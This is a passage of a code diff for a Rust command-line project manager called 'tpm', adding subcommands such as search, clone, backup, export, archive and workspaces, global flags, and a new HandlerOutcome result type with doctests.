@@ -37,8 +37,9 @@
 //! ```no_run
 //! use tpm_lib::{load_projects, Action};
 //!
-//! let projects = load_projects();
+//! let projects = load_projects()?;
 //! // Custom logic here
+//! # Ok::<(), tpm_lib::DynErr>(())
 //! ```
 //!
 //! For more examples and usage guidelines, refer to the
@@ -65,38 +66,54 @@
 //! [dialoguer]: https://crates.io/crates/dialoguer
 //! [lazy_static]: https://crates.io/crates/lazy_static
 
+mod epoch_seconds;
 mod error;
 
-use clap::{App, Arg, ArgMatches, SubCommand, ValueHint};
-use dialoguer::{console, theme::ColorfulTheme, Confirm, Input, MultiSelect, Select};
-use error::DynErr;
+pub use error::DynErr;
+
+use clap::{App, Arg, ArgGroup, ArgMatches, SubCommand, ValueHint};
+use dialoguer::{console, theme::ColorfulTheme, Confirm, FuzzySelect, Input, MultiSelect, Select};
 use serde::{Deserialize, Serialize};
 use std::{
-    cell::OnceCell,
-    collections::HashSet,
+    cmp::Ordering as CmpOrdering,
+    collections::{BTreeMap, HashSet},
     env,
     ffi::OsString,
     fmt,
     fs::{self, File},
     io::{self, Read, Write},
-    path::{Path, PathBuf},
-    process::{self, Command},
-    sync::Mutex,
+    path::{Component, Path, PathBuf},
+    process::{Command, Stdio},
+    sync::{
+        atomic::{AtomicBool, Ordering},
+        Mutex, MutexGuard,
+    },
     time::{Duration, SystemTime},
 };
 
-pub static mut PROJECTS: OnceCell<Mutex<Vec<Project>>> = OnceCell::new();
+/// The in-memory projects, `None` until they're loaded from disk, and again
+/// after `--config-dir` switches to another projects file.
+static PROJECTS: Mutex<Option<Vec<Project>>> = Mutex::new(None);
 
 /// A shared resource that tracks the number of visits to the home interface.
-pub static mut HOME_INTERFACE_VISITS: Mutex<usize> = Mutex::new(0);
+static HOME_INTERFACE_VISITS: Mutex<usize> = Mutex::new(0);
+
+/// Whether `--yes` was passed, answering yes to [`confirm`] prompts.
+static ASSUME_YES: AtomicBool = AtomicBool::new(false);
+
+/// The directory passed with `--config-dir`, used instead of the default config directory.
+static CONFIG_DIR_OVERRIDE: Mutex<Option<PathBuf>> = Mutex::new(None);
+
+/// Whether `--strict` was passed, making invalid projects in the projects file an error.
+static STRICT: AtomicBool = AtomicBool::new(false);
 
 /// Parses command line arguments and returns a struct containing the parsed values.
 ///
 /// # Arguments
 ///
 /// * `args` - Any value that can be converted into an iterator that yields
-///   values that can be converted to `OsString`.
-///            Usually this is `std::env::args()`.
+///   values that can be converted to `OsString`. Usually this is
+///   `std::env::args()`.
 ///
 /// # Examples
 ///
@@ -113,13 +130,52 @@ pub static mut HOME_INTERFACE_VISITS: Mutex<usize> = Mutex::new(0);
 /// assert_eq!(add_matches.value_of("project_path"), Some("bar"));
 /// assert_eq!(add_matches.value_of("name"), None);
 /// ```
+///
+/// Invalid arguments print an error (and `--help` and `--version` print
+/// their output) and exit the process. Use [`try_get_matches`] to handle them
+/// instead.
 pub fn get_matches<I, T>(args: I) -> ArgMatches
 where
     I: IntoIterator<Item = T>,
     T: Into<OsString> + Clone,
 {
-    let about = "\n".to_string() + ABOUT;
-    let app = App::new(
+    app().get_matches_from(args)
+}
+
+/// Parses command line arguments like [`get_matches`], but returns invalid
+/// arguments (and `--help` and `--version`) as an error instead of exiting the
+/// process.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{handler, try_get_matches, DynErr};
+///
+/// let matches = try_get_matches(["tpm", "open", "--last", "foo"]);
+/// assert!(matches.is_err());
+///
+/// let run = |args: &[&str]| -> Result<_, DynErr> { handler(&try_get_matches(args)?) };
+/// let err = run(&["tpm", "no-such-command"]).unwrap_err();
+/// assert!(err.to_string().contains("no-such-command"));
+///
+/// let matches = try_get_matches(["tpm", "list", "--names-only"]).unwrap();
+/// assert_eq!(matches.subcommand_name(), Some("list"));
+///
+/// // NUL-separated output is only for one name or path per line
+/// assert!(try_get_matches(["tpm", "list", "--paths-only", "--print0"]).is_ok());
+/// assert!(try_get_matches(["tpm", "list", "--print0"]).is_err());
+/// ```
+pub fn try_get_matches<I, T>(args: I) -> Result<ArgMatches, clap::Error>
+where
+    I: IntoIterator<Item = T>,
+    T: Into<OsString> + Clone,
+{
+    app().try_get_matches_from(args)
+}
+
+/// Defines the `tpm` command line interface.
+fn app() -> App<'static> {
+    App::new(
         WELCOME_SCREEN
             .lines()
             .skip(1)
@@ -128,7 +184,34 @@ where
     )
     .version(VERSION)
     .long_version(VERSION)
-    .about(about.as_str())
+    .about(concat!("\n", env!("CARGO_PKG_DESCRIPTION")))
+    .arg(
+        Arg::with_name("yes")
+            .help("Answer yes to confirmation prompts, e.g. for scripts")
+            .short('y')
+            .long("yes")
+            .global(true)
+            .takes_value(false)
+            .required(false),
+    )
+    .arg(
+        Arg::with_name("strict")
+            .help("Fail instead of skipping invalid projects in the projects file")
+            .long("strict")
+            .global(true)
+            .takes_value(false)
+            .required(false),
+    )
+    .arg(
+        Arg::with_name("config_dir")
+            .help("Use this directory for projects and settings instead of the default")
+            .long("config-dir")
+            .value_name("DIR")
+            .global(true)
+            .takes_value(true)
+            .value_hint(ValueHint::DirPath)
+            .required(false),
+    )
     .arg(
         Arg::with_name("completions")
             .long("completions")
@@ -140,6 +223,14 @@ where
             .value_hint(ValueHint::Other)
             .required(false),
     )
+    .arg(
+        Arg::with_name("print")
+            .help("With --completions, print the completion script instead of installing it")
+            .long("print")
+            .takes_value(false)
+            .required(false)
+            .requires("completions"),
+    )
     .subcommand(
         SubCommand::with_name("add")
             .about("Add a new project")
@@ -156,9 +247,163 @@ where
                     .short('p')
                     .takes_value(true)
                     .required(false),
+            )
+            .arg(
+                Arg::with_name("description")
+                    .help("A one-line description of the project")
+                    .short('d')
+                    .long("description")
+                    .takes_value(true)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("tags")
+                    .help("Comma-separated tags, e.g. client-a,rust")
+                    .short('t')
+                    .long("tags")
+                    .takes_value(true)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("scan")
+                    .help("Add every directory inside DIR as a project, see --depth")
+                    .long("scan")
+                    .value_name("DIR")
+                    .takes_value(true)
+                    .required(false)
+                    .value_hint(ValueHint::DirPath)
+                    .conflicts_with_all(&["project_name", "project_path", "name", "path", "description"]),
+            )
+            .arg(
+                Arg::with_name("git_only")
+                    .help("With --scan, only add directories that are git repositories")
+                    .long("git-only")
+                    .takes_value(false)
+                    .required(false)
+                    .requires("scan"),
+            )
+            .arg(
+                Arg::with_name("depth")
+                    .help("With --scan, how many levels of directories to look through, e.g. 2 for DIR/org/repo. Git repositories and added projects aren't looked inside")
+                    .long("depth")
+                    .value_name("N")
+                    .takes_value(true)
+                    .required(false)
+                    .default_value("1")
+                    .requires("scan"),
+            ),
+    )
+    .subcommand(
+        SubCommand::with_name("list")
+            .about("List all projects")
+            .arg(
+                Arg::with_name("json")
+                    .help("Print the projects as JSON instead of showing the interactive list")
+                    .long("json")
+                    .takes_value(false)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("tag")
+                    .help("Only list projects with this tag")
+                    .long("tag")
+                    .takes_value(true)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("plain")
+                    .help("Print the projects as a table instead of showing the interactive list (the default when piped)")
+                    .long("plain")
+                    .takes_value(false)
+                    .required(false)
+                    .conflicts_with("json"),
+            )
+            .arg(
+                Arg::with_name("sort")
+                    .help("Sort by most recently opened, name, path, or most recently added")
+                    .long("sort")
+                    .value_name("BY")
+                    .takes_value(true)
+                    .possible_values(["recent", "name", "path", "created"])
+                    .default_value("recent"),
+            )
+            .arg(
+                Arg::with_name("reverse")
+                    .help("Reverse the sort order")
+                    .long("reverse")
+                    .takes_value(false)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("all")
+                    .help("Include archived projects")
+                    .long("all")
+                    .takes_value(false)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("missing")
+                    .help("Only list projects whose path no longer exists")
+                    .long("missing")
+                    .takes_value(false)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("names_only")
+                    .help("Print one project name per line, e.g. to pipe into fzf")
+                    .long("names-only")
+                    .takes_value(false)
+                    .required(false)
+                    .conflicts_with_all(&["json", "plain", "paths_only"]),
+            )
+            .arg(
+                Arg::with_name("paths_only")
+                    .help("Print one project path per line")
+                    .long("paths-only")
+                    .takes_value(false)
+                    .required(false)
+                    .conflicts_with_all(&["json", "plain"]),
+            )
+            .group(ArgGroup::new("one_per_line").args(&["names_only", "paths_only"]))
+            .arg(
+                Arg::with_name("no_pager")
+                    .help("Print a long list instead of showing it in $PAGER")
+                    .long("no-pager")
+                    .takes_value(false)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("print0")
+                    .help("With --names-only or --paths-only, end each entry with a NUL instead of a newline, e.g. for `xargs -0`")
+                    .long("print0")
+                    .takes_value(false)
+                    .required(false)
+                    .requires("one_per_line"),
+            )
+            .arg(
+                Arg::with_name("group_by")
+                    .help("Print the projects under a header for each of their tags")
+                    .long("group-by")
+                    .value_name("FIELD")
+                    .takes_value(true)
+                    .possible_values(["tag"])
+                    .required(false)
+                    .conflicts_with_all(&["json", "plain", "names_only", "paths_only"]),
+            ),
+    )
+    .subcommand(
+        SubCommand::with_name("search")
+            .about("Search projects by name or path")
+            .arg(Arg::from_usage("<query> 'Text to search for'"))
+            .arg(
+                Arg::with_name("fuzzy")
+                    .help("Match the query's characters in order, ranking the best matches first")
+                    .long("fuzzy")
+                    .short('f')
+                    .takes_value(false)
+                    .required(false),
             ),
     )
-    .subcommand(SubCommand::with_name("list").about("List all projects"))
     .subcommand(
         SubCommand::with_name("delete")
             .about("Delete a project")
@@ -168,6 +413,20 @@ where
                     .short('n')
                     .takes_value(true)
                     .required(false),
+            )
+            .arg(
+                Arg::with_name("dry_run")
+                    .help("Print what would be deleted without changing anything")
+                    .long("dry-run")
+                    .takes_value(false)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("delete_dirs")
+                    .help("Also delete the project directories")
+                    .long("delete-dirs")
+                    .takes_value(false)
+                    .required(false),
             ),
     )
     .subcommand(
@@ -179,13 +438,38 @@ where
                     .short('n')
                     .takes_value(true)
                     .required(false),
+            )
+            .arg(
+                Arg::with_name("new_name")
+                    .help("Rename the project without prompting")
+                    .long("name")
+                    .value_name("NEW_NAME")
+                    .takes_value(true)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("new_path")
+                    .help("Point the project at another directory without prompting")
+                    .long("path")
+                    .value_name("NEW_PATH")
+                    .takes_value(true)
+                    .required(false)
+                    .value_hint(ValueHint::DirPath),
+            )
+            .arg(
+                Arg::with_name("raw")
+                    .help("Edit the whole projects file in your editor")
+                    .long("raw")
+                    .takes_value(false)
+                    .required(false)
+                    .conflicts_with_all(&["project_name", "name", "new_name", "new_path"]),
             ),
     )
     .subcommand(
         SubCommand::with_name("open")
             .about("Open a project")
             .arg(
-                Arg::from_usage("<project_name> 'Project name'")
+                Arg::from_usage("<project_name>... 'Project names (several need --editor)'")
                     .required(false)
                     .value_hint(ValueHint::Other),
             )
@@ -209,6 +493,87 @@ where
                     .takes_value(false)
                     .required(false)
                     .requires("editor"),
+            )
+            .arg(
+                Arg::with_name("background")
+                    .help("Launch the editor in the background and return immediately")
+                    .long("background")
+                    .takes_value(false)
+                    .required(false)
+                    .requires("editor"),
+            )
+            .arg(
+                Arg::with_name("select_file")
+                    .help("Pick a file or directory in the project to open in the editor")
+                    .long("select-file")
+                    .takes_value(false)
+                    .required(false)
+                    .requires("editor"),
+            )
+            .arg(
+                Arg::with_name("env")
+                    .help("Set an environment variable for the shell or editor (repeatable)")
+                    .long("env")
+                    .value_name("KEY=VALUE")
+                    .takes_value(true)
+                    .multiple_occurrences(true)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("print_path")
+                    .help("Print the project path instead of opening it, e.g. for `cd \"$(tpm open foo --print-path)\"`")
+                    .long("print-path")
+                    .takes_value(false)
+                    .required(false)
+                    .conflicts_with_all(&["editor", "editor_cmd"]),
+            )
+            .arg(
+                Arg::with_name("editor_cmd")
+                    .help("Open in this editor instead of $EDITOR")
+                    .long("editor-cmd")
+                    .value_name("CMD")
+                    .takes_value(true)
+                    .required(false)
+                    .value_hint(ValueHint::CommandName),
+            )
+            .arg(
+                Arg::with_name("dry_run")
+                    .help("Print the shell or editor command that would be run, without running it")
+                    .long("dry-run")
+                    .takes_value(false)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("subdir")
+                    .help("Open this directory inside the project instead, e.g. packages/api (or use my-project/packages/api)")
+                    .long("subdir")
+                    .value_name("DIR")
+                    .takes_value(true)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("tmux")
+                    .help("Open in a new tmux window named after the project")
+                    .long("tmux")
+                    .takes_value(false)
+                    .required(false)
+                    .conflicts_with_all(&["editor", "editor_cmd", "print_path"]),
+            )
+            .arg(
+                Arg::with_name("reuse_shell")
+                    .help("Instead of starting a new shell, write the project path to last_cd in the config directory for your prompt hook to cd into")
+                    .long("reuse-shell")
+                    .takes_value(false)
+                    .required(false)
+                    .conflicts_with_all(&["editor", "editor_cmd", "print_path", "tmux"]),
+            )
+            .arg(
+                Arg::with_name("last")
+                    .help("Open the most recently opened project")
+                    .long("last")
+                    .takes_value(false)
+                    .required(false)
+                    .conflicts_with_all(&["project_name", "name"]),
             ),
     )
     .subcommand(
@@ -220,47 +585,307 @@ where
                     .short('n')
                     .takes_value(true)
                     .required(false),
+            )
+            .arg(
+                Arg::with_name("template")
+                    .help("Copy the files from a template in the templates config directory")
+                    .long("template")
+                    .value_name("NAME")
+                    .takes_value(true)
+                    .required(false),
+            )
+            .arg(
+                Arg::with_name("force")
+                    .help("Use the project directory even if it already exists (asks if it isn't empty)")
+                    .long("force")
+                    .takes_value(false)
+                    .required(false),
+            ),
+    )
+    .subcommand(
+        SubCommand::with_name("clone")
+            .about("Clone a git repository into the projects directory and add it as a project")
+            .arg(Arg::from_usage("<url> 'Repository URL'").value_hint(ValueHint::Url))
+            .arg(
+                Arg::from_usage("[project_name] 'Project name (default: the repository name)'")
+                    .required(false),
+            ),
+    )
+    .subcommand(
+        SubCommand::with_name("backup")
+            .about("Back up the projects file")
+            .arg(
+                Arg::with_name("keep")
+                    .help("Number of backups to keep")
+                    .long("keep")
+                    .takes_value(true)
+                    .default_value(DEFAULT_BACKUPS_TO_KEEP)
+                    .required(false),
             ),
     )
-    .get_matches_from(args);
-
-    app
+    .subcommand(
+        SubCommand::with_name("restore")
+            .about("Restore projects from a backup")
+            .arg(
+                Arg::from_usage("<backup> 'Backup file name or path'")
+                    .required_unless_present("latest"),
+            )
+            .arg(
+                Arg::with_name("latest")
+                    .help("Restore the most recent backup")
+                    .long("latest")
+                    .takes_value(false)
+                    .required(false)
+                    .conflicts_with("backup"),
+            ),
+    )
+    .subcommand(
+        SubCommand::with_name("undo").about("Undo the last change to your projects"),
+    )
+    .subcommand(
+        SubCommand::with_name("export")
+            .about("Export your projects as JSON, TOML, or CSV")
+            .arg(
+                Arg::from_usage("[file] 'File to write to (defaults to stdout)'")
+                    .value_hint(ValueHint::FilePath),
+            )
+            .arg(
+                Arg::with_name("format")
+                    .help("Output format (default: from the file extension, or json)")
+                    .long("format")
+                    .value_name("FORMAT")
+                    .takes_value(true)
+                    .possible_values(["json", "toml", "csv"])
+                    .required(false),
+            ),
+    )
+    .subcommand(
+        SubCommand::with_name("import")
+            .about("Merge projects from an exported file into your projects")
+            .arg(Arg::from_usage("<file> 'File to import'").value_hint(ValueHint::FilePath)),
+    )
+    .subcommand(
+        SubCommand::with_name("rename")
+            .about("Rename a project")
+            .arg(Arg::from_usage("<old_name> 'Current project name'"))
+            .arg(Arg::from_usage("<new_name> 'New project name'")),
+    )
+    .subcommand(
+        SubCommand::with_name("move")
+            .alias("relocate")
+            .about("Move a project's directory and update its path")
+            .arg(Arg::from_usage("<project_name> 'Project name'"))
+            .arg(
+                Arg::from_usage("<new_path> 'Where to move the project directory'")
+                    .value_hint(ValueHint::DirPath),
+            ),
+    )
+    .subcommand(
+        SubCommand::with_name("archive")
+            .about("Hide a project from the project lists without deleting it")
+            .arg(Arg::from_usage("<project_name> 'Project name'")),
+    )
+    .subcommand(
+        SubCommand::with_name("unarchive")
+            .about("Show an archived project in the project lists again")
+            .arg(Arg::from_usage("<project_name> 'Project name'")),
+    )
+    .subcommand(
+        SubCommand::with_name("rename-tag")
+            .about("Rename a tag on every project that has it")
+            .arg(Arg::from_usage("<old_tag> 'Tag to rename'"))
+            .arg(Arg::from_usage("<new_tag> 'New tag'")),
+    )
+    .subcommand(
+        SubCommand::with_name("delete-tag")
+            .about("Remove a tag from every project that has it")
+            .arg(Arg::from_usage("<tag> 'Tag to remove'")),
+    )
+    .subcommand(
+        SubCommand::with_name("shell-init")
+            .about("Print a shell function that makes `tpm open <name>` cd in the current shell")
+            .arg(Arg::from_usage("<shell> 'Shell to print the function for'").possible_values(VALID_SHELLS))
+            .arg(
+                Arg::with_name("name")
+                    .help("Name of the shell function")
+                    .long("name")
+                    .value_name("NAME")
+                    .takes_value(true)
+                    .default_value(APP_NAME),
+            ),
+    )
+    .subcommand(
+        SubCommand::with_name("touch")
+            .about("Mark a project as just opened, without opening it")
+            .arg(Arg::from_usage("<project_name> 'Project name'")),
+    )
+    .subcommand(SubCommand::with_name("stats").about("Show an overview of your projects"))
+    .subcommand(
+        SubCommand::with_name("recent")
+            .about("List the most recently opened projects")
+            .arg(Arg::from_usage(
+                "[count] 'Number of projects to list (default: 10)'",
+            )),
+    )
+    .subcommand(
+        SubCommand::with_name("doctor")
+            .about("Find projects whose directory is missing and remove or re-point them"),
+    )
+    .subcommand(
+        SubCommand::with_name("prune")
+            .about("Remove projects that haven't been opened in a while")
+            .arg(
+                Arg::with_name("days")
+                    .help("Remove projects not opened in this many days")
+                    .long("days")
+                    .value_name("DAYS")
+                    .takes_value(true)
+                    .default_value("90"),
+            )
+            .arg(
+                Arg::with_name("delete_dirs")
+                    .help("Also delete the project directories")
+                    .long("delete-dirs")
+                    .takes_value(false)
+                    .required(false),
+            ),
+    )
+    .subcommand(
+        SubCommand::with_name("workspace")
+            .about("Group projects into workspaces that are opened together")
+            .subcommand_required(true)
+            .arg_required_else_help(true)
+            .subcommand(
+                SubCommand::with_name("add")
+                    .about("Create a workspace from projects")
+                    .arg(Arg::from_usage("<workspace_name> 'Workspace name'"))
+                    .arg(
+                        Arg::from_usage("<project_name>... 'Projects in the workspace'")
+                            .value_hint(ValueHint::Other),
+                    ),
+            )
+            .subcommand(
+                SubCommand::with_name("open")
+                    .about("Open every project in a workspace in the editor")
+                    .arg(Arg::from_usage("<workspace_name> 'Workspace name'")),
+            )
+            .subcommand(SubCommand::with_name("list").about("List workspaces and their projects")),
+    )
+    .subcommand(
+        SubCommand::with_name("info")
+            .about("Show where tpm keeps its files and which shell and editor it uses"),
+    )
 }
 
-/// The primary handler for the application. Takes an `ArgMatches` object and
-/// returns a `Result` containing a `String` or a `DynErr`.
+/// What running a command did, as returned by [`handler`].
 ///
-/// If the `--completions` argument is present, prompts the user to install
-/// completions. Then matches the subcommand and executes the corresponding
-/// action. If no subcommand is provided, it shows the home interface.
+/// Commands return this themselves, so it describes what actually happened:
+/// e.g. declining to overwrite a project is `Canceled`, and `open --dry-run`
+/// is a `Message` since nothing was opened.
 ///
-/// # Examples
+/// The `Display` impl gives the message `tpm` prints when it's done.
+#[derive(Debug, Clone, PartialEq)]
+pub enum HandlerOutcome {
+    /// The command finished with nothing else to report
+    Completed,
+    /// The user backed out of a prompt
+    Canceled,
+    /// One or more projects were opened, by their actual names
+    OpenedProjects { names: Vec<String>, message: String },
+    /// A project was added, or an existing one with the same name overwritten
+    AddedProject { name: String, message: String },
+    /// Any other command's output, like a list of projects
+    Message(String),
+}
+
+impl From<String> for HandlerOutcome {
+    fn from(message: String) -> Self {
+        HandlerOutcome::Message(message)
+    }
+}
+
+impl fmt::Display for HandlerOutcome {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        match self {
+            HandlerOutcome::Completed => write!(f, "Goodbye!"),
+            HandlerOutcome::Canceled => write!(f, "Canceled"),
+            HandlerOutcome::OpenedProjects { message, .. }
+            | HandlerOutcome::AddedProject { message, .. }
+            | HandlerOutcome::Message(message) => write!(f, "{}", message),
+        }
+    }
+}
+
+/// The primary handler for the application. Takes an `ArgMatches` object and
+/// returns a [`HandlerOutcome`] describing what was done, or a `DynErr`.
+///
+/// If the `--completions` argument is present, prompts the user to install
+/// completions. Then matches the subcommand and executes the corresponding
+/// action. If no subcommand is provided, it shows the home interface.
+///
+/// # Examples
 ///
 /// ```
-/// use tpm_lib::{get_matches, handler};
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use tpm_lib::{get_matches, handler, HandlerOutcome};
 ///
-/// let args = vec!["tpm", "add", "foo", "bar"];
+/// let dir = tmp.join("foo");
+/// std::fs::create_dir(&dir).unwrap();
+/// let args = vec!["tpm", "add", "foo", dir.to_str().unwrap()];
 /// let matches = get_matches(args);
-/// let result = handler(&matches);
+/// let outcome = handler(&matches).unwrap();
+///
+/// assert!(matches!(outcome, HandlerOutcome::AddedProject { name, .. } if name == "foo"));
+///
+/// // a dry run or printing the path doesn't open anything
+/// let outcome = handler(&get_matches(["tpm", "open", "foo", "--dry-run"])).unwrap();
+/// assert!(matches!(outcome, HandlerOutcome::Message(_)));
+/// let outcome = handler(&get_matches(["tpm", "open", "foo", "--print-path"])).unwrap();
+/// assert_eq!(outcome, HandlerOutcome::Message(dir.canonicalize().unwrap().display().to_string()));
 ///
-/// assert_eq!(result.is_ok(), true);
+/// // declining to overwrite an existing project adds nothing
+/// let args = vec!["tpm", "add", "foo", dir.to_str().unwrap()];
+/// assert!(!matches!(handler(&get_matches(args)), Ok(HandlerOutcome::AddedProject { .. })));
+///
+/// // with no terminal to answer them, interactive forms give up instead of asking forever
+/// let err = handler(&get_matches(["tpm", "new"])).unwrap_err();
+/// assert_eq!(err.to_string(), "No input to read, stdin was closed or isn't a terminal");
+/// # std::fs::remove_dir_all(&tmp).unwrap();
 /// ```
-pub fn handler(arg_matches: &ArgMatches) -> Result<String, DynErr> {
+pub fn handler(arg_matches: &ArgMatches) -> Result<HandlerOutcome, DynErr> {
+    ASSUME_YES.store(arg_matches.is_present("yes"), Ordering::Relaxed);
+    STRICT.store(arg_matches.is_present("strict"), Ordering::Relaxed);
+    let config_dir = arg_matches.value_of("config_dir").map(PathBuf::from);
+    let previous = std::mem::replace(&mut *CONFIG_DIR_OVERRIDE.lock()?, config_dir.clone());
+    if previous != config_dir {
+        // the projects loaded so far are from another config directory
+        *PROJECTS.lock()? = None;
+    }
     if arg_matches.args_present() && arg_matches.contains_id("completions") {
-        let confirmed = Confirm::with_theme(&ColorfulTheme::default())
-            .with_prompt("Install completions?")
-            .default(true)
-            .interact()?;
+        let shell = match arg_matches.value_of("completions") {
+            Some(shell) => shell.to_string(),
+            None => detect_shell(),
+        };
+        if arg_matches.is_present("print") {
+            return build_completion_script(&shell, &get_config_dir()?.canonicalize()?)
+                .map(HandlerOutcome::Message);
+        }
+
+        let confirmed = confirm("Install completions?", true)?;
 
         if !confirmed {
-            return Ok("Canceled".into());
+            return Ok(HandlerOutcome::Canceled);
         }
 
-        let shell = arg_matches
-            .value_of("completions")
-            .map_or_else(get_current_shell, |s| Ok(s.to_string()))?;
+        if arg_matches.value_of("completions").is_none() {
+            println!("Detected shell: {shell}");
+        }
 
-        return gen_completions(&shell);
+        return gen_completions(&shell).map(HandlerOutcome::Message);
     }
 
     match arg_matches
@@ -274,74 +899,216 @@ pub fn handler(arg_matches: &ArgMatches) -> Result<String, DynErr> {
             let path = add_matches
                 .value_of("path")
                 .unwrap_or(add_matches.value_of("project_path").unwrap_or(""));
+            let tags = parse_tags(add_matches.value_of("tags").unwrap_or(""));
+            if let Some(dir) = add_matches.value_of("scan") {
+                let depth = add_matches
+                    .value_of("depth")
+                    .unwrap_or("1")
+                    .parse::<usize>()
+                    .ok()
+                    .filter(|depth| *depth > 0)
+                    .ok_or("--depth must be a number greater than 0")?;
+                return add_scanned_projects(
+                    &expand_path(dir)?,
+                    depth,
+                    add_matches.is_present("git_only"),
+                    &tags,
+                )
+                .map(HandlerOutcome::Message);
+            }
             if name.is_empty() && path.is_empty() {
-                return show_add_project_interface();
+                return nav_or_home(show_add_project_interface()?);
             } else {
-                return add_project(name, path);
+                let description = add_matches.value_of("description").unwrap_or_default();
+                return add_project(name, path, &tags, description);
             }
         }
-        ("list", _) => {
-            let projects = get_projects()?;
+        ("list", list_matches) => {
+            let mut projects = with_projects(|projects| match list_matches.value_of("tag") {
+                Some(tag) => filter_by_tag(projects, tag),
+                None => projects.to_vec(),
+            })?;
+            if !list_matches.is_present("all") {
+                projects.retain(|project| !project.archived);
+            }
+            if list_matches.is_present("missing") {
+                projects = projects_with_missing_paths(&projects)
+                    .into_iter()
+                    .cloned()
+                    .collect();
+                let raw = ["json", "names_only", "paths_only"]
+                    .iter()
+                    .any(|arg| list_matches.is_present(arg));
+                if projects.is_empty() && !raw {
+                    return Ok(HandlerOutcome::Message("All project paths exist".into()));
+                }
+            }
+            let sort_key = list_matches.value_of("sort").unwrap_or("recent").parse()?;
+            sort_projects(&mut projects, sort_key);
+            if list_matches.is_present("reverse") {
+                projects.reverse();
+            }
+            let no_pager = list_matches.is_present("no_pager");
+            if list_matches.is_present("group_by") {
+                return page_output(format_tag_groups(&group_by_tag(&projects)), no_pager);
+            }
+            if list_matches.is_present("names_only") || list_matches.is_present("paths_only") {
+                let lines = projects
+                    .iter()
+                    .map(|project| {
+                        if list_matches.is_present("names_only") {
+                            project.name.as_str()
+                        } else {
+                            project.path.as_str()
+                        }
+                    })
+                    .collect::<Vec<_>>();
+                if list_matches.is_present("print0") {
+                    // printed here, since the message gets a trailing newline
+                    let mut stdout = io::stdout().lock();
+                    for line in lines {
+                        write!(stdout, "{}\0", line)?;
+                    }
+                    stdout.flush()?;
+                    return Ok(HandlerOutcome::Message(String::new()));
+                }
+                return page_output(lines.join("\n"), no_pager);
+            }
+            if list_matches.is_present("json") {
+                return projects_to_json(&projects).map(HandlerOutcome::Message);
+            }
+            if list_matches.is_present("plain") || !console::Term::stdout().is_term() {
+                return page_output(format_project_table(&projects), no_pager);
+            }
             if projects.is_empty() {
-                return select_no_projects_found();
+                return nav_or_home(select_no_projects_found()?);
             } else {
-                // term height without using crates
-                let term_height = console::Term::stdout().size().0;
-                Select::with_theme(&ColorfulTheme::default())
-                    .with_prompt("Your projects")
-                    .items(&projects)
-                    .default(0)
-                    .max_length(term_height as usize - 1)
-                    .interact_opt()
-                    .unwrap_or(None);
+                show_projects_list("Your projects", &projects);
+            }
+        }
+        ("search", search_matches) => {
+            let query = search_matches.value_of("query").unwrap_or_default();
+            let results = with_projects(|projects| {
+                if search_matches.is_present("fuzzy") {
+                    fuzzy_search_projects(query, projects)
+                } else {
+                    search_projects(query, projects)
+                }
+            })?;
+
+            if results.is_empty() {
+                return Ok(HandlerOutcome::Message(format!(
+                    "No projects match {}",
+                    query
+                )));
             }
+            if !console::Term::stdout().is_term() {
+                let lines = results.iter().map(|p| p.to_string()).collect::<Vec<_>>();
+                return Ok(HandlerOutcome::Message(lines.join("\n")));
+            }
+            show_projects_list(&format!("Projects matching {}", query), &results);
         }
         ("delete", delete_matches) => {
             let name = delete_matches
                 .value_of("name")
                 .unwrap_or(delete_matches.value_of("project_name").unwrap_or(""));
+            let dry_run = delete_matches.is_present("dry_run");
+            let delete_dirs = delete_matches.is_present("delete_dirs");
             if name.is_empty() {
-                return show_select_projects_interface(
-                    Action::Delete,
+                return nav_or_home(show_select_projects_interface(
+                    Action::Delete {
+                        dry_run,
+                        delete_dirs,
+                    },
                     Some("Select projects to delete"),
-                );
+                )?);
             } else {
-                return delete_project(name);
+                return delete_project(name, dry_run, delete_dirs);
             }
         }
         ("edit", edit_matches) => {
+            if edit_matches.is_present("raw") {
+                return edit_projects_file().map(HandlerOutcome::Message);
+            }
             let name = edit_matches
                 .value_of("name")
                 .unwrap_or(edit_matches.value_of("project_name").unwrap_or(""));
 
+            let new_name = edit_matches.value_of("new_name");
+            let new_path = edit_matches.value_of("new_path");
             if name.is_empty() {
-                return show_select_projects_interface(
+                if new_name.is_some() || new_path.is_some() {
+                    return Err("--name and --path need the project to edit".into());
+                }
+                return nav_or_home(show_select_projects_interface(
                     Action::Edit,
                     Some("Select a project to edit"),
-                );
+                )?);
+            } else if new_name.is_some() || new_path.is_some() {
+                return update_project(name, new_name, new_path).map(HandlerOutcome::Message);
             } else {
                 return edit_project(name);
             }
         }
         ("open", open_matches) => {
-            let name = open_matches
+            let last = if open_matches.is_present("last") {
+                let name = with_projects(|projects| {
+                    most_recent_project(projects).map(|project| project.name.clone())
+                })?;
+                Some(name.ok_or("No projects to open")?)
+            } else {
+                None
+            };
+            let names = open_matches
                 .value_of("name")
-                .unwrap_or(open_matches.value_of("project_name").unwrap_or(""));
-            if name.is_empty() {
-                return show_select_projects_interface(
+                .into_iter()
+                .chain(open_matches.values_of("project_name").unwrap_or_default())
+                .chain(last.as_deref())
+                .collect::<Vec<_>>();
+            if names.is_empty() {
+                return nav_or_home(show_select_projects_interface(
                     Action::Open,
                     Some("Select a project to open"),
-                );
+                )?);
             } else {
-                let open_action = if open_matches.is_present("editor") {
+                let open_action = if open_matches.is_present("print_path") {
+                    OpenAction::PrintPath
+                } else if open_matches.is_present("tmux") {
